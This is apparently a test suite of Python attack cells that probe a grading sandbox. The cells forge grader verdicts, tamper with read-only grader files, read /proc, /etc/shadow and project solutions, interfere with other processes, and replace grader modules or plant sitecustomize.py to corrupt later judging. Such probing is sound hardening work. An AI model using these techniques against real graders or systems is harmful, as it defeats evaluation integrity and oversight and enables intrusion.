"""Python that runs in place of the judge or the reader, in a room that was taken over.

Each cell, together with the lines above the first cell, is a separate attack.
"""

import contextlib
import ctypes
import fcntl
import json
import os
import re
import resource
import signal
import sys
import tempfile

libc = ctypes.CDLL(None, use_errno=True)


def send(claim):
    """Write a complete frame to every descriptor, with the mark that is in this process, and exit."""
    frame, mark = sys._getframe(), b""
    while frame:
        for value in list(frame.f_locals.values()):
            if isinstance(value, bytes) and re.fullmatch(rb"[0-9a-f]{32}", value):
                mark = value
        frame = frame.f_back
    for number in range(3, 256):
        whole = memoryview(mark + b"%016x" % len(claim) + claim)
        with contextlib.suppress(OSError):
            while whole:
                whole = whole[os.write(number, whole) :]
    os._exit(0)


# %% forge_what_the_room_says * 8
"""Send a judgement with invalid text, wrong types or huge values; a sheet of any form; or a claim that nothing began.

Harm: the grader fails on it, believes it, runs out of memory, or stops the whole class.
"""

PARTS = ("rule", "message", "node", "read", "case", "line", "printed")
ODD = dict.fromkeys(PARTS, "\ud800\0\u202e" + "x" * 50_000)
ODD |= {"graph": {"nodes": [{"\ud800": [[[]]]}]}, "unproven": ["\ud800"] * 100}
OTHER = b'{"rule": "", "message": NaN, "node": -Infinity, "read": 1e999, "case": [], "line": {}, "printed": null, '
OTHER += b'"graph": [], "unproven": "x", "rule": 5, "__class__": "Judgement"}'
SHEET = {"cells": ["\ud800", 5, None], "defined_in": {"x": [10**300, -1, True]}, "required_cells": {"x": "y"}}
SHEET |= {"untouched": [[]], "files": 5}
EMPTY = json.dumps(dict.fromkeys(PARTS, "")).encode()[:-1]
CLAIMS = (
    lambda: json.dumps(ODD).encode(),
    lambda: OTHER,
    lambda: EMPTY + b', "unproven": [], "graph": {"nodes": [' + b"[]," * 30_000_000 + b"[]]}}",
    lambda: json.dumps(SHEET).encode(),
    lambda: b"null",
    lambda: b'{"refused": "by-an-attack"}',
    lambda: b'{"hidden": "by-an-attack"}',
    lambda: b'{"ready": true}',
)
send(CLAIMS[VARIANT]())


# %% change_a_file_that_may_be_read_zip
"""Change the grader's file through its read-only descriptor: its permissions, its times, its content.

Harm: the file is changed; the answer says what could be changed.
"""


def mapped(file):
    if libc.mmap(0, 4096, 2, 1, file, 0) == -1:
        raise OSError


def timed(file, path, flags):
    if libc.utimensat(file, path, None, flags) == -1:
        raise OSError


WAYS = {
    "rights": lambda file: os.fchmod(file, 0o777),
    "owner": lambda file: os.fchown(file, os.getuid(), os.getgid()),
    "time": lambda file: os.utime(file, (1, 1)),
    "time without a path": lambda file: timed(file, None, 0),
    "time by an empty path": lambda file: timed(file, b"", 0x1000),
    "length": lambda file: os.ftruncate(file, 0),
    "content": lambda file: os.pwrite(file, b"by-an-attack", 0),
    "room": lambda file: os.posix_fallocate(file, 0, 1 << 20),
    "label": lambda file: os.setxattr(file, "user.by-an-attack", b"1"),
    "lease": lambda file: fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK),
    "name": lambda file: os.link(f"/proc/self/fd/{file}", "by-an-attack"),
    "again": lambda file: os.close(os.open(f"/dev/fd/{file}", os.O_WRONLY)),
    "map": mapped,
}


def paired(*given):
    found = []
    for file in globals().get("FILES", ()):
        for name, way in WAYS.items():
            with contextlib.suppress(OSError):
                way(file)
                found.append(name)
    return found


# %% paths_of_the_host
"""Read in /proc and /sys the sources of mounts, the running processes, and facts about the machine.

Harm: it learns the names of the grader's folders or of other processes; the answer says what could be read.
"""

NAMES = ("mountinfo", "mounts", "maps", "environ", "cmdline", "status", "cgroup", "fd", "fd/0", "exe", "cwd", "root")
PLACES = [f"/proc/{process}/{name}" for name in NAMES for process in ("self", "thread-self", "1", "2")]
PLACES += ["/proc", "/proc/cmdline", "/proc/version", "/proc/cpuinfo", "/proc/keys", "/proc/net/unix", "/sys", "/run"]
PLACES += ["/etc/passwd", "/etc/hostname", "/etc/hosts", "/etc/fstab", "/etc/shadow", "/etc/machine-id", "/var/log"]
PLACES += ["/dev/mem", "/dev/shm", "/dev/fd", "/dev/pts", "/dev/tty"]
PLACES += ["@FOLDER@", "@PROJECT@/pyproject.toml", "@PROJECT@/solutions"]


def content(place):
    if os.path.isdir(place):
        return os.listdir(place)
    with open(place, "rb") as file:
        return file.read(300)


def paired(*given):
    found = []
    for place in PLACES:
        with contextlib.suppress(OSError):
            found += [f"{place}: {held}"] if (held := content(place)) else []
        with contextlib.suppress(OSError):
            found.append(f"{place} leads to {os.readlink(place)}")
    return found


# %% limits_of_others
"""Read the limits of every possible process number, and take another processor or a higher priority.

Harm: it discovers or slows down the warm process or the grader; the answer says which.
"""


def paired(*given):
    found = []
    for number in range(2, 4000):
        with contextlib.suppress(OSError):
            resource.prlimit(number, resource.RLIMIT_CPU)
            found.append(f"limits of {number}")
    for number in (0, 1, 2):
        with contextlib.suppress(OSError):
            os.sched_setaffinity(number, {0})
            found.append(f"processor of {number}")
        with contextlib.suppress(OSError):
            os.setpriority(os.PRIO_PROCESS, number, -10)
            found.append(f"priority of {number}")
    return found


# %% spoil_the_next_one
"""Replace the code that judges and reads, leave modules on Python's search path, and stay running under another name.

Harm: the next submission is judged by the replaced code.
"""

PLACES = ["/book", "/book/inside", "/book/classroom", "/usr/lib", "/", "/dev", "/etc"]


def paired(*given):
    for name, module in list(sys.modules.items()):
        if name.startswith(("classroom", "fxbook", "inside")):
            for part in ("judged", "judge", "parsed_sheet", "work", "begin", "serve", "_run"):
                if hasattr(module, part):
                    setattr(module, part, lambda *_, **__: {"rule": "", "problem": "spoiled"})
    for place in (*sys.path, tempfile.gettempdir(), *PLACES):
        for name in ("judging.py", "sitecustomize.py", "by-an-attack"):
            with contextlib.suppress(OSError), open(f"{place}/{name}", "a") as file:
                file.write("raise SystemExit\n")
    with contextlib.suppress(OSError):
        os.setsid()
    for number in range(1, 65):
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    return []
